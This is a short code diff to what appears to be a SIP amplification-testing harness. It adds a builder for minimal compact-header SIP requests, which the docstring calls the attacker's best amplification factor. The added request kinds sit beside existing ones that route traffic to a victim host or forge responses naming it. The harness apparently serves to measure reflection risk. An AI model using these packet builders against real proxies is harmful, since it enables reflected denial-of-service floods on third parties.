@@ -69,6 +69,13 @@ def forged_response(proxy: tuple[str, int]) -> bytes:
     ).encode()
 
 
+def compact(method: str, ruri: str = "tel:1", to_tag: str = "") -> bytes:
+    """The smallest request of its kind: compact header names, no Max-Forwards,
+    a one-letter sent-by.  The attacker's best factor (the reply echoes and
+    expands it)."""
+    return f"{method} {ruri} SIP/2.0\r\nv:SIP/2.0/UDP a\r\nf:sip:a\r\nt:sip:c{to_tag}\r\ni:1\r\nCSeq:1 {method}\r\n\r\n".encode()
+
+
 def kinds(proxy: tuple[str, int], sport: int, vport: int) -> list[tuple[str, bytes]]:
     host, port = proxy
     victim_route = f"<sip:{VICTIM}:{vport};lr>"
@@ -90,6 +97,13 @@ def kinds(proxy: tuple[str, int], sport: int, vport: int) -> list[tuple[str, byt
         ("MESSAGE, Route to victim", request("MESSAGE", proxy, sport, route=victim_route)),
         ("ACK, To tag + Route to us", request("ACK", proxy, sport, ruri=f"sip:bob@{VICTIM}:{vport}", to_tag=True, route=own_route)),
         ("forged 200 OK, 2nd Via=victim", forged_response(proxy).replace(b"{vport}", str(vport).encode())),
+        ("compact INVITE", compact("INVITE")),
+        ("compact REGISTER", compact("REGISTER", "sip:a")),
+        ("compact OPTIONS to a user", compact("OPTIONS", "sip:a")),
+        ("compact OPTIONS to the proxy", compact("OPTIONS", f"sip:{host}")),
+        ("compact MESSAGE", compact("MESSAGE")),
+        ("compact SUBSCRIBE", compact("SUBSCRIBE")),
+        ("compact BYE, To tag", compact("BYE", to_tag=";tag=2")),
     ]
 
 
